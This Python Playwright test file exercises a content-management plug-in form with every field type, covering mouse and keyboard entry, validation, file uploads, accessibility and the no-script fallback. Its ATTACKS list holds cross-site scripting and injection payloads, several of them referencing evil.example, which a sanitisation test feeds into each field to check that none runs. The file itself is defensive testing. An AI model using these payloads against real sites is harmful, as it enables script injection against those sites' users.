"""A type of a plug-in with every field and no widget code: created, edited and read again, by mouse and by keyboard."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect
from serving import Served, served_to_manager
from visits import Open
from writing import editor, fill, value

pytestmark = pytest.mark.browser

NEW = "/news/@@add/Everything"
ATTACKS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "[x](javascript:alert(1)) ![x](x\" onerror=\"alert(1))",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</p>",
    "{{7*7}}${7*7}</textarea></title><script>alert(1)</script><!--",
    "<form action=//evil.example><input name=action formaction=javascript:alert(1)>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<p hx-get=//evil.example hx-trigger=load data-hx-on=alert(1)>x</p>",
)  # fmt: skip


@pytest.fixture(scope="module")
def served(_browser_there: None) -> Iterator[Served]:
    with served_to_manager(fill, contentsite__plugins="every_field") as found:
        yield found


def stored(page: Page) -> dict[str, str]:
    """Return what the form would send, by control."""
    found: dict[str, str] = page.evaluate(
        """() => Object.fromEntries([...new FormData(document.getElementById('f-title').form)]
          .filter(([name, value]) => name.startsWith('f-') && typeof value === 'string'))"""
    )
    return found


def save(page: Page) -> None:
    """Save, and wait for the form that comes back."""
    with page.expect_navigation():
        page.locator("#save").click()
    editor(page)


WANTED = {
    "f-title": "All of it",
    "f-line": "One line",
    "f-needed": "words",
    "f-lines": "a\nb",
    "f-marked": "**M**",
    "f-rich": "<h2>One</h2><p>two</p>",
    "f-flag": "1",
    "f-maybe": "no",
    "f-count": "7",
    "f-share": "1.5",
    "f-price": "12.50",
    "f-day": "2026-11-01",
    "f-moment": "2026-11-01T19:30",
    "f-size": "large",
    "f-level": "2",
    "f-hue": "green",
    "f-words": 'news, "Paris, France"',
    "f-link": "/news/locks",
    "f-one": "/news/rivers",
    "f-shown": "/news/lake",
    "f-several": "/news/locks\n/news/rivers",
    "f-mail": "ada@example.org",
    "f-colour": "green",
    "f-places": "north\nsouth",
    "f-point": "[1.5, 2.0]",
}


def choose(page: Page, button: object, words: str) -> None:
    """Choose a page by its words, for the field of a button."""
    button.click()  # type: ignore[attr-defined]
    page.get_by_role("searchbox", name="Find a page").last.fill(words)
    page.get_by_role("region", name="What was found").get_by_role("radio").first.check()
    page.get_by_role("button", name="Choose", exact=True).click()
    expect(page.get_by_role("dialog")).to_have_count(0)


def fill_by_mouse(page: Page) -> None:
    """Fill the form by pointing at its parts."""
    page.locator("#f-title").fill("All of it")
    page.locator(".details > summary").click()
    page.locator("#f-line").fill("One line")
    page.locator("#f-flag").check()
    for key, words in (("maybe", "No"), ("size", "Large"), ("level", "2"), ("hue", "Green")):
        page.locator(f"#f-{key}").get_by_label(words, exact=True).check()
    page.locator("#f-day").fill("2026-11-01")
    page.locator("#f-moment").fill("2026-11-01T19:30")
    words = page.get_by_role("combobox", name="Words", exact=True)
    words.type("new")
    page.get_by_role("option", name=re.compile("^news")).click()
    words.type('"Paris, France",')
    looked_for = {"link": "locks", "one": "rivers", "shown": "lake", "several": "rivers"}
    for key, looked in [*looked_for.items(), ("several", "locks")]:
        choose(page, page.locator(f".field:has(#f-{key})").get_by_role("button").last, looked)
    page.get_by_role("button", name="Move Locks up").click()
    page.locator("#f-mail").fill("ada@example.org")
    page.locator("#f-colour").fill("green")
    page.locator("#f-places").fill("north\nsouth")
    page.locator("#f-point").fill("[1.5, 2]")
    page.get_by_role("tab", name="Words").click()
    page.locator("#f-needed").fill("words")
    page.locator("#f-lines").fill("a\nb")
    page.locator("#f-marked").fill("M")
    page.locator("#f-marked").select_text()
    page.keyboard.press("Control+b")
    page.get_by_role("tab", name="Preview").click()
    expect(page.get_by_role("tabpanel", name="Preview").locator("strong")).to_have_text("M")
    editor(page, "f-rich").click()
    page.keyboard.type("One")
    page.get_by_role("toolbar").locator("visible=true").get_by_role(
        "button", name=re.compile("^H2")
    ).click()
    page.keyboard.press("Enter")
    page.keyboard.type("two")
    page.get_by_role("tab", name="Numbers").click()
    page.locator("#f-count").fill("7")
    page.locator("#f-share").fill("1.5")
    page.locator("#f-price").fill("12.50")


def test_created_edited_and_read_by_mouse(work: Open) -> None:
    page = (seen := work()).page
    seen.go(NEW)
    editor(page)
    fill_by_mouse(page)
    page.locator("#save").click()
    expect(page).to_have_url(re.compile("/news/all-of-it/@@edit"))
    editor(page)
    assert {**stored(page), **WANTED} == stored(page)
    # saved as it is, nothing changes
    save(page)
    assert {**stored(page), **WANTED} == stored(page)
    page.locator(".details > summary").click()
    page.get_by_role("button", name="Remove Paris, France").click()
    page.get_by_role("button", name="Remove Rivers").last.click()
    save(page)
    assert stored(page)["f-words"] == "news"
    assert stored(page)["f-several"] == "/news/locks"
    seen.go("/news/all-of-it")
    expect(page.get_by_role("heading", name="One", exact=True)).to_be_visible()


class Keys:
    """A form that is filled by keys alone: what cannot be reached by Tab cannot be filled."""

    def __init__(self, page: Page) -> None:
        self.page = page

    def reach(self, selector: str, key: str = "Tab") -> None:
        for _ in range(150):
            if self.page.evaluate("s => document.activeElement.matches(s)", selector):
                return
            self.page.keyboard.press(key)
        pytest.fail(f"{selector} is not reached by {key}")

    def type(self, selector: str, words: str) -> None:
        self.reach(selector)
        self.page.keyboard.type(words)

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)

    def choose(self, key: str, words: str) -> None:
        self.reach(f".field:has(#f-{key}) > :is(node-field, href-field) button.button:not(.square)")
        self.press("Enter")
        self.reach(".chooser input[type=search]")
        self.page.keyboard.type(words)
        expect(
            self.page.get_by_role("region", name="What was found").get_by_role("radio")
        ).not_to_have_count(0)
        self.press("ArrowDown", "Space")
        self.reach("button[value=chosen]")
        self.press("Enter")
        expect(self.page.get_by_role("dialog")).to_have_count(0)


def test_created_by_keyboard_alone(work: Open) -> None:
    page = (seen := work()).page
    seen.go(NEW)
    editor(page)
    keys = Keys(page)
    keys.type("#f-title", "By keys")
    keys.type("#f-line", "One line")
    keys.reach("#f-flag")
    keys.press("Space")
    keys.reach("[name=f-maybe]")
    keys.press("ArrowUp")
    keys.type("#f-day", "11012026")
    keys.reach("[name=f-size]")
    keys.press("ArrowDown")
    keys.choose("link", "locks")
    keys.reach(".details > summary")
    keys.press("Enter")
    keys.type(".field:has(#f-words) [role=combobox]", "new")
    expect(page.get_by_role("option", name=re.compile("^news"))).to_be_visible()
    keys.press("ArrowDown", "Enter")
    page.keyboard.type('"Paris, France"')
    keys.press("Enter")
    keys.choose("one", "rivers")
    keys.choose("several", "rivers")
    keys.choose("several", "locks")
    keys.reach("[aria-label='Move Locks up']", "Shift+Tab")
    keys.press("Enter")
    expect(page.get_by_role("button", name="Move Locks down")).to_be_focused()
    keys.reach(".tab-bar [aria-selected=true]", "Shift+Tab")
    keys.press("ArrowRight")
    expect(page.get_by_role("tab", name="Words")).to_be_focused()
    keys.type("#f-needed", "words")
    keys.reach(".field:has(#f-rich) .ProseMirror")
    page.keyboard.type("## One")
    keys.press("Enter")
    page.keyboard.type("two")
    keys.reach(".tab-bar [aria-selected=true]", "Shift+Tab")
    keys.press("ArrowRight")
    keys.reach("#f-count")
    keys.press("Control+a")
    page.keyboard.type("7")
    keys.reach(".bar .primary")
    keys.press("Enter")
    expect(page).to_have_url(re.compile("/news/by-keys/@@edit"))
    editor(page)
    shown = stored(page)
    other = {"title", "lines", "marked", "share", "price", "moment", "level", "hue", "shown"}
    other |= {"mail", "colour", "places", "point"}
    same = {key for key in WANTED if key.removeprefix("f-") not in other}
    assert {key: shown[key] for key in same} == {key: WANTED[key] for key in same}


def test_what_is_wrong_is_said_in_its_tab_and_when_a_field_is_left(work: Open) -> None:
    page = (seen := work()).page
    seen.go(NEW)
    tabs = page.get_by_role("tablist", name="Parts of the form")
    tabs.get_by_role("tab", name="Numbers").click()
    count = page.locator("#f-count")
    count.fill("200")
    count.press("Tab")
    expect(count).to_have_accessible_description("Must be less than or equal to 99.")
    expect(tabs.get_by_role("tab", name="Numbers 1 to mend")).to_be_visible()
    count.fill("20")
    count.press("Tab")
    expect(tabs.get_by_role("tab", name="Numbers", exact=True)).to_be_visible()
    expect(count).not_to_have_attribute("aria-invalid", "true")
    tabs.get_by_role("tab", name="Content").click()
    seen.expected.add(seen.address + NEW)
    page.locator("#f-title").fill("x")
    page.locator("#save").click()
    # what is missing stands in another tab, which is open now
    expect(page.locator(".problems")).to_be_focused()
    expect(page.get_by_role("tab", name="Words 1 to mend")).to_have_attribute(
        "aria-selected", "true"
    )
    tabs.get_by_role("tab", name="Content").click()
    page.locator(".problems a").click()
    expect(page.locator("#f-needed")).to_be_focused()
    assert not seen.axe()


def test_a_file_is_looked_at_before_it_is_sent(work: Open) -> None:
    page = (seen := work()).page
    seen.go(NEW)
    photo = page.locator(".field:has(#f-photo)")
    png = page.screenshot()
    given = {"name": "shot.png", "mimeType": "image/png", "buffer": png}
    page.locator("#f-photo").set_input_files(given)
    expect(photo.locator(".chosen")).to_contain_text("1280 × 900")
    expect(photo.locator(".chosen img")).to_have_attribute("src", re.compile("^blob:"))
    photo.get_by_role("button", name="Do not take it").click()
    expect(photo.locator(".chosen")).to_be_hidden()
    page.locator("#f-photo").set_input_files(
        {**given, "name": "a.svg", "mimeType": "image/svg+xml"}
    )
    expect(photo.get_by_role("alert")).to_contain_text("a.svg is no picture that pages can show")
    assert value(page, "f-photo") == ""
    page.evaluate(
        "() => { const data = new DataTransfer(); data.items.add(new File(['words'], 'words.txt'));"
        " document.querySelector('.field:has(#f-paper) file-field').dispatchEvent("
        "new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true})); }"
    )
    expect(page.locator(".field:has(#f-paper) .chosen")).to_contain_text("words.txt")
    page.evaluate("document.querySelector('.field:has(#f-paper) file-field').dataset.most = '10'")
    page.locator("#f-paper").set_input_files(
        {"name": "b.txt", "mimeType": "text/plain", "buffer": b"x" * 20}
    )
    expect(page.locator(".field:has(#f-paper)").get_by_role("alert")).to_contain_text(
        "At most 10 byte"
    )


def test_how_much_is_left_of_a_limit(work: Open) -> None:
    page = (seen := work()).page
    seen.go(NEW)
    line = page.locator("#f-line")
    line.fill("x" * 490)
    expect(page.locator(".field:has(#f-line) .count")).to_have_text("10 left")
    line.fill("x" * 503)
    expect(page.locator(".field:has(#f-line) .count")).to_have_text("3 too many")
    # it is said once, when one has stopped
    expect(page.locator(".field:has(#f-line) [aria-live]")).to_have_count(0)
    expect(page.locator("#toasts")).to_have_text("3 too many")
    assert len(value(page, "f-line")) == 503


def test_what_is_set_from_outside_is_shown(work: Open) -> None:
    page = (seen := work()).page
    seen.go("/page/@@edit")
    editor(page)
    page.evaluate(
        """values => { for (const [key, value] of Object.entries(values)) {
          const control = document.getElementById(key);
          control.value = value;
          control.dispatchEvent(new Event('cs:refresh'));
        } }""",
        {"f-body": "<p>From a draft</p>", "f-tags": "one, two", "f-related": "/news/locks"},
    )
    expect(editor(page)).to_have_text("From a draft")
    expect(page.locator(".field:has(#f-tags) .chip")).to_have_text(["one", "two"])
    expect(page.locator(".field:has(#f-related) .node-card b")).to_have_text("Locks")


def test_attacks_in_each_field_do_nothing(work: Open) -> None:
    """Any dialog, violation or request elsewhere fails the test: see `watch`."""
    page = (seen := work()).page
    seen.go(NEW)
    editor(page)
    seen.expected.update(seen.address + path for path in (NEW, "/news/x", "/x"))
    for attack in ATTACKS:
        page.evaluate(
            """attack => { for (const control of document.querySelectorAll('main [id^=f-][name]:not([type=file])')) {
              if (/^text/.test(control.type)) control.value = attack;
              control.dispatchEvent(new Event('cs:refresh'));
              control.dispatchEvent(new Event('input', { bubbles: true }));
              control.dispatchEvent(new Event('change', { bubbles: true }));
            } }""",
            attack,
        )
        page.get_by_role("tab", name="Words").first.click()
        page.get_by_role("tab", name="Preview").click()
        expect(page.locator(".markdown-shown:not([aria-busy])")).to_be_visible()
        page.get_by_role("tab", name="Text", exact=True).click()
    page.locator("#save").click()
    expect(page.locator(".problems")).to_be_focused()
    editor(page)


@pytest.mark.parametrize("path", [NEW, "/page/@@edit"])
def test_axe_finds_nothing_in_any_tab(work: Open, path: str) -> None:
    seen = work()
    seen.go(path)
    editor(seen.page)
    for width in (1280, 360):
        seen.page.set_viewport_size({"width": width, "height": 900})
        for scheme in ("light", "dark"):
            seen.page.emulate_media(color_scheme=scheme)
            for tab in (
                seen.page.get_by_role("tablist", name="Parts of the form").get_by_role("tab").all()
            ):
                tab.click()
                assert not seen.axe(), (width, scheme)
    seen.page.set_viewport_size({"width": 320, "height": 900})
    assert seen.page.evaluate("document.documentElement.scrollWidth") <= 320


def test_without_script_all_of_it_is_plain(work: Open) -> None:
    page = (seen := work(script=False)).page
    # in a folder of its own: a form of /news would begin with what others typed there and did not save
    seen.go("/@@add/Everything")
    page.locator("#f-title").fill("Without script")
    page.locator("#f-needed").fill("words")
    page.locator(".details > summary").click()
    page.locator("#f-words").fill('one, "two, three"')
    page.locator("#f-one").fill("/news/locks")
    page.locator("#f-rich").fill("<p>Plain</p>")
    page.locator("#f-marked").fill("*slanted*")
    with page.context.expect_page() as opened:
        page.get_by_role("button", name="Preview").click()
    expect(opened.value.locator(".prose em")).to_have_text("slanted")
    opened.value.close()
    page.locator("#save").click()
    expect(page).to_have_url(re.compile("/without-script/@@edit"))
    expect(page.locator("#f-words")).to_have_value('one, "two, three"')
    expect(page.locator("#f-one")).to_have_value("/news/locks")
    expect(page.locator("#f-rich")).to_have_value("<p>Plain</p>")
